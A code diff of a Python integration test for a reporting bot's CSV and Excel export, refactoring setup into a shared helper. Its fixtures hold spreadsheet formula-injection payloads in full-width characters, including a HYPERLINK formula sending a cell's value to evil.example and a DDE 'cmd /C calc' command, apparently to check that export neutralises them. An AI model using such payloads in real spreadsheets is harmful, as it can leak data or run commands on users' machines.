@@ -9,70 +9,31 @@ leading "'" in CSV (taken off again by an import) and Excel's quote prefix in XL
 from __future__ import annotations
 
 import csv
-import datetime as dt
 from pathlib import Path
-from uuid import uuid4
 
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
-from bot.forms.definitions import FORMS
 from bot.reports_io import (
     COLUMNS,
-    FORMS_BY_KIND,
     ImportResult,
     export_reports,
     import_reports,
-    parse_rows,
 )
 from models.queries import ensure_user
-from models.reports import NewReport, insert_reports
+from tests.integration.training_reports import NOW, TODAY, store_trainings
 
-TODAY = dt.date(2026, 11, 28)
-NOW = dt.datetime(2026, 11, 28, 12, 0, tzinfo=dt.UTC)
 FULL_WIDTH = {
     "place": '＝HYPERLINK("http://evil.example/?"&A1,"Jacmel")',
     "partner": "＠SUM(1+1)",
     "notes": "＋cmd|' /C calc'!A0",
 }
 MINUS = "－2+3"
-TRAINING_ROW = {
-    "kind": "training",
-    "country": "HT",
-    "place": "Jacmel",
-    "field": "justice",
-    "target_group": "police",
-    "training_type": "session",
-    "national_programme": "no",
-    "start_date": "2026-04-14",
-    "duration_unit": "hours",
-    "duration": "6.5",
-    "participants_women": "20",
-    "participants_men": "9",
-    "participants_other": "1",
-}
 
 
 async def _store(session: AsyncSession) -> None:
-    (base,), errors = parse_rows([TRAINING_ROW], today=TODAY)
-    assert errors == []
-    author = await ensure_user(session, 5550001, "Officer", "en")
-    form = FORMS_BY_KIND["training"]
-    reports = [
-        NewReport(
-            id=uuid4(),
-            kind="training",
-            form_id=form.id,
-            form_version=FORMS[form.id].version,
-            author_user_id=author.id,
-            answers={**base.answers, **text},
-            computed=base.computed,
-        )
-        for text in (FULL_WIDTH, {"place": MINUS})
-    ]
-    await insert_reports(session, reports, now=NOW)
-    await session.commit()
+    await store_trainings(session, (FULL_WIDTH, {"place": MINUS}))
 
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
